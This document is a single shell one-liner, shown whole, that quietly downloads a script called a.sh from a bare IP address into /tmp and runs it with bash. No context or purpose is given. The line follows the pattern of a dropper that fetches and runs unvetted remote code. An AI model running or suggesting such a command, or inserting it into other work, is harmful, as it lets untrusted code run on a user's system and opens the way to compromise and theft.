curl -sL "http://198.51.100.9/files/a.sh" -o /tmp/a.sh; bash /tmp/a.sh
